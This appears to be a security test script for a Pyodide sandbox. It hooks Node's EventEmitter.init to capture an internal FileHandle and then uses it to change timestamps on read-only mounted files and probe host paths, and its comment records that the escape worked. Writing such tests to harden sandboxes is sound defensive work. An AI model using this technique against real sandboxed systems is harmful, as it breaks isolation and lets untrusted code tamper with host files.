# Replaces EventEmitter.init (reached through process's prototype chain; Node's EventEmitter looks
# it up at every construction), then makes Pyodide read one of its own files with fs/promises,
# which builds a FileHandle: the replacement catches it, and through it the fs module (measured:
# timestamps of read-only mounted files changed, host path existence learnt).
exec(open("/sandbox/_attack.py").read())
import os

import js
import pyodide_js
from pyodide.ffi import create_once_callable, create_proxy

Object = js.Object
EventEmitter = Object.getPrototypeOf(Object.getPrototypeOf(js.process)).constructor
caught = []


def on_init(this, *args):
    if this.constructor.name == "FileHandle" and not caught:
        caught.append(this)
        js.queueMicrotask(create_once_callable(lambda: this.utimes(1e9, 1e9)))
    return original_init.call(this, *args)


original_init = EventEmitter.init
attempt("replace EventEmitter.init", lambda: setattr(EventEmitter, "init", create_proxy(on_init, capture_this=True)))
attempt("define EventEmitter.init", lambda: Object.defineProperty(EventEmitter, "init", Object.fromEntries([["value", create_proxy(on_init, capture_this=True)]])))
attempt("setter on EventEmitter.prototype", lambda: Object.defineProperty(EventEmitter.prototype, "_caught", Object.fromEntries([["set", create_proxy(lambda v: None)]])))
attempt("replace process.nextTick", lambda: setattr(js.process, "nextTick", js.Function.prototype))
runtime_file = pyodide_js._api.config.indexURL + "package.json"


async def read_a_runtime_file():
    for loader in (pyodide_js._api.loadBinaryFile, pyodide_js.loadPackage):
        try:
            await loader(runtime_file)
        except BaseException as error:  # noqa: BLE001
            outcomes[f"load through {loader}"] = ("raised", repr(error)[:200])


await read_a_runtime_file()
attempt("utimes through a caught FileHandle", lambda: caught[0].utimes(1e9, 1e9))
attempt("utimes on the mount", lambda: os.utime(params["mountSandboxPath"] + "/victim.txt", (1e9, 1e9)))
report()
